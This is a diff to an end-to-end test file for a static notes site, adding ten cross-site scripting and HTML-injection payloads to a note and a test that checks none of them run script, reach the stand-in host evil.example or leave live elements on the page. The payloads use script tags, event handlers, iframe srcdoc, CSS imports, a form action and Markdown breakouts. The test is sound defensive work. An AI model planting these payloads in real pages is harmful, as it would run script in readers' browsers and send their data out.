@@ -15,6 +15,19 @@ const types: Readonly<Record<string, string>> = {
 	'.js': 'text/javascript',
 	'.json': 'application/json',
 };
+/** What somebody may have pasted who wants to run something in the browsers of readers. */
+const hostile = [
+	`<script>hacked('script')</script>`,
+	`<kbd id="key" onclick="hacked('handler')">key</kbd>`,
+	`<svg onload="hacked('drawing')"><script>hacked('inside')</script></svg>`,
+	`<iframe srcdoc="<script>parent.hacked('frame')</script>"></iframe>`,
+	`<details open ontoggle="hacked('toggle')"><summary>more</summary>text</details>`,
+	`<style>@import 'https://evil.example/x.css'; h1 { display: none }</style>`,
+	`<form action="https://evil.example/"><button>send</button></form>`,
+	`\`\`\`html\n</code></pre><script>hacked('code')</script>\n\`\`\``,
+	`### </title><script>hacked('heading')</script>`,
+	`![</p><script>hacked('picture')</script>](https://evil.example/x.png)`,
+];
 let server: Server;
 
 test.describe.configure({ mode: 'serial' });
@@ -24,7 +37,8 @@ test.beforeAll(async () => {
 	const hints = 'root: true\nmoved:\n  Undo: [/reset/, /old/#back]\n  Start: [/old/#begin]\n';
 	project.put('src/content/notes/git.yaml', hints);
 	project.put('src/content/notes/git.md', '# Git\n\n## Start\n\nInit.\n\n## Undo\n\nReset.\n');
-	project.put('src/content/notes/vim.md', '# Vim\n\n## Insert\n\nType.\n\n## Undo\n\nPress u.\n');
+	const vim = ['# Vim', '## Insert', 'Type.', '## Undo', 'Press u.', '## Paste', ...hostile];
+	project.put('src/content/notes/vim.md', `${vim.join('\n\n')}\n`);
 	const { status, stderr } = project.build();
 	expect(status, stderr).toBe(0);
 	const folder = join(root, project.folder, 'dist');
@@ -71,6 +85,23 @@ test('the page of search keeps the topic in its address', async ({ page }) => {
 	await page.locator('main').getByLabel('Topic').selectOption('Git');
 	await expect(page).toHaveURL(`${address}/search/?q=undo&topic=git`);
 	await expect(options.first()).toHaveAttribute('href', '/undo/');
+});
+
+test('hostile notes run nothing, send nothing and hide nothing', async ({ page }) => {
+	const ran: string[] = [];
+	await page.exposeFunction('hacked', (how: string) => ran.push(how));
+	const outside: string[] = [];
+	await page.route('https://evil.example/**', (route) => {
+		outside.push(route.request().url());
+		return route.abort();
+	});
+	await page.goto(`${address}/vim/paste/`, { waitUntil: 'networkidle' });
+	await expect(page.locator('h1')).toHaveText('Paste');
+	await expect(page.locator('main summary').filter({ hasText: 'more' })).toBeVisible();
+	await page.locator('main kbd').filter({ hasText: 'key' }).click();
+	const alive = 'main :is(iframe, form, style, script, [onclick], [onload], [ontoggle])';
+	await expect(page.locator(alive)).toHaveCount(0);
+	expect([...ran, ...outside]).toEqual([]);
 });
 
 for (const [from, to] of [
